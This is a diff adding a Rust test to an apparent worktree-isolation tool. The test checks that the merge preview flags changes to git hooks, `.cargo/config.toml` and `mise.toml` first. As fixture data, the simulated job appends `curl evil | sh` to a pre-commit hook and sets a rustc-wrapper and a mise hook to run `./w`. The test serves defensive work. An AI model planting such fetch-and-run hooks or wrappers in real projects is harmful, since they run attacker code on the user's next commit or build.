@@ -597,3 +597,45 @@ fn uncommitted_work_in_a_hidden_linked_worktree_keeps_the_worktree() {
     );
     assert_eq!(report["worktree"]["removed"], false, "{report}");
 }
+
+/// The preview lists first a change to the project's own hooks (`core.hooksPath` pointing into its
+/// work tree, as many projects set it) and to configuration that names a program a tool runs
+/// (`.cargo/config.toml`'s rustc-wrapper, `mise.toml`'s hooks): they were listed among the
+/// ordinary files, though git runs the hook on the user's next commit.
+#[test]
+fn the_preview_lists_the_projects_hooks_path_and_tool_configuration_first() {
+    let env = TestEnv::new();
+    let repo = env.repo("app");
+    fs::create_dir_all(repo.join("scripts/git-hooks")).unwrap();
+    fs::write(repo.join("scripts/git-hooks/pre-commit"), "#!/bin/sh\n").unwrap();
+    env.git(&repo, ["add", "scripts"]);
+    env.git(&repo, ["commit", "-q", "-m", "hooks"]);
+    env.git(&repo, ["config", "core.hooksPath", "scripts/git-hooks"]);
+    let report = job(
+        &env,
+        &repo,
+        &[],
+        "echo 'curl evil | sh' >> scripts/git-hooks/pre-commit && \
+         mkdir -p .cargo && printf '[build]\\nrustc-wrapper = \"./w\"\\n' > .cargo/config.toml && \
+         printf '[hooks]\\nenter = \"./w\"\\n' > mise.toml && \
+         git add -A && git commit -q -m hooks",
+    );
+    let out = env.isolate(&repo, ["merge", "--yes", &id(&report)]);
+    assert_status(&out, 0);
+    let preview = stderr(&out);
+    let first: Vec<&str> = preview
+        .lines()
+        .skip_while(|l| !l.contains("read these first"))
+        .take_while(|l| !l.contains("other file"))
+        .collect();
+    for path in [
+        "scripts/git-hooks/pre-commit",
+        ".cargo/config.toml",
+        "mise.toml",
+    ] {
+        assert!(
+            first.iter().any(|l| l.contains(path)),
+            "{path} not first:\n{preview}"
+        );
+    }
+}
